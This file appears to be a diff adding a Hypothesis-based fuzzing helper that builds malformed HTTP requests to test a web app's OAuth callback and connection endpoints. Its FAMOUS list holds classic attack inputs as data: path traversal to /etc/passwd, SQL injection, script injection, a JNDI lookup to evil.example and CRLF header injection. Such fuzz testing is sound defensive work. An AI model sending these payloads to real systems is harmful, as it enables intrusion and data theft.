@@ -1,0 +1,156 @@
+"""Requests that no browser sends, and some that one might: what the fuzz of the web is made of."""
+
+from __future__ import annotations
+
+from collections.abc import Iterable
+from dataclasses import dataclass, field
+from typing import Any
+
+from hypothesis import strategies as st
+
+METHODS = ("GET", "POST", "HEAD", "OPTIONS", "PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "get", "X" * 40)
+HEADERS = (
+    "Accept",
+    "Accept-Encoding",
+    "Content-Type",
+    "Cookie",
+    "Expect",
+    "Host",
+    "If-Modified-Since",
+    "If-None-Match",
+    "If-Range",
+    "Origin",
+    "Range",
+    "Referer",
+    "Sec-Fetch-Site",
+    "Upgrade",
+    "X-Forwarded-For",
+    "X-Forwarded-Host",
+    "X-Forwarded-Prefix",
+    "X-HTTP-Method-Override",
+    "X-Original-URL",
+)
+#: What a field of a request is often good for, or famous for.
+FAMOUS = (
+    "",
+    "0",
+    "-1",
+    "62515",
+    "9" * 19,
+    "9" * 400,
+    "1e9",
+    "../../etc/passwd",
+    "%00",
+    "\x00",
+    "%c0%ae",
+    "\ud7ff\uffff",
+    "' OR 1=1 --",
+    "<script>alert(1)</script>",
+    "{{7*7}}",
+    "${jndi:ldap://evil.example}",
+    "\r\nSet-Cookie: a=b",
+    "//evil.example",
+    "https://evil.example",
+    "evil.example",
+    "same-origin",
+    "null",
+    "chunked",
+    "bytes=0-0,-1,999999999999-",
+    "Sun, 06 Nov 9999 99:99:99 GMT",
+    "multipart/form-data; boundary=",
+    "multipart/form-data; boundary=x",
+    "application/x-www-form-urlencoded; charset=utf-7",
+    "application/json",
+    "access_denied",
+    "active",
+    "due",
+    "q" * 5000,
+)
+PARAMETERS = ("state", "code", "error", "hub_id", "status", "q", "sort", "after", "before", "notice", "csrf_token", "x")
+COOKIES = (
+    "tk_browser",
+    "tk_ticket",
+    "tk_grant",
+    "tk_restarts",
+    "__Host-tk_browser",
+    "__Secure-tk_grant",
+    "session",
+    "",
+)
+
+
+@dataclass(frozen=True, slots=True)
+class Visit:
+    method: str
+    path: str
+    query: str
+    headers: list[tuple[str, str]]
+    body: bytes
+    signed_in: bool = field(default=False)
+
+
+def latin(raw: bytes) -> str:
+    """As WSGI hands bytes on."""
+    return raw.decode("latin-1")
+
+
+def visits(paths: list[str], genuine: dict[str, str]) -> st.SearchStrategy[Visit]:
+    """`genuine`: parameters and cookies that are good, by name, to be sent as they are, spoiled, or as another one."""
+    values = sorted(genuine.values())
+    text = st.one_of(
+        st.sampled_from(FAMOUS),
+        st.sampled_from(values),
+        st.builds(_spoiled, st.sampled_from(values), st.integers(0, 400), st.characters(codec="latin-1")),
+        st.text(max_size=40),
+        st.binary(max_size=40).map(latin),
+    ).map(_as_bytes)
+    odd = st.one_of(
+        st.builds(lambda path, more: f"{path}/{more}", st.sampled_from(paths), text),
+        st.builds(lambda path, more: path.replace("62515", more), st.sampled_from(paths), text),
+        text.map(lambda more: f"/{more}"),
+    )
+    path = st.builds(lambda dice, plain, odd: plain if dice else odd, st.integers(0, 3), st.sampled_from(paths), odd)
+    good = {name: st.just((name, value)) for name, value in genuine.items()}
+    form = st.one_of(
+        st.lists(st.tuples(st.sampled_from(PARAMETERS), text), max_size=5).map(_form),
+        st.tuples(good["state"], good["code"]).map(_form),
+        st.tuples(good["csrf_token"]).map(_form),
+    )
+    cookies = st.one_of(
+        st.lists(st.tuples(st.sampled_from(COOKIES), text), max_size=4),
+        st.tuples(*(pair for name, pair in good.items() if name.startswith("tk_"))),
+    )
+    cookie = cookies.map(lambda found: ("Cookie", "; ".join(f"{name}={value}" for name, value in found)))
+    kind = st.just(("Content-Type", "application/x-www-form-urlencoded"))
+    headers: Any = st.lists(st.tuples(st.sampled_from(HEADERS), text) | cookie | kind, max_size=5)
+    body = st.one_of(st.just(b""), form.map(lambda told: told.encode("latin-1")), st.binary(max_size=200))
+    method = st.sampled_from(("GET",) * 8 + ("POST",) * 8 + METHODS)
+    odd_one = st.builds(Visit, method, path, form | text, headers, body, st.booleans())
+    good_one = st.sampled_from(_well_made(genuine))
+    return st.builds(lambda dice, odd, good: odd if dice else good, st.integers(0, 9), odd_one, good_one)
+
+
+def _well_made(genuine: dict[str, str]) -> list[Visit]:
+    """So that all that lies behind the checks is met again and again, between whatever came before."""
+    cookies = "; ".join(f"{name}={value}" for name, value in genuine.items() if name.startswith("tk_"))
+    headers = [("Cookie", cookies), ("Content-Type", "application/x-www-form-urlencoded")]
+    form = f"csrf_token={genuine['csrf_token']}".encode()
+    back = f"state={genuine['state']}&code={genuine['code']}"
+    orders = ("/connections/62515/refresh", "/connections/62515/disconnect", "/operator/revocations/confirm")
+    return [
+        Visit("GET", "/oauth/callback", back, headers, b""),
+        *(Visit("POST", order, "", headers, form, signed_in=True) for order in orders),
+    ]
+
+
+def _form(pairs: Iterable[tuple[str, str]]) -> str:
+    return "&".join(f"{name}={value}" for name, value in pairs)
+
+
+def _spoiled(genuine: str, place: int, letter: str) -> str:
+    place %= len(genuine) + 1
+    return genuine[:place] + letter + genuine[place + 1 :]
+
+
+def _as_bytes(text: str) -> str:
+    return text.encode("utf-8", "surrogatepass").decode("latin-1")
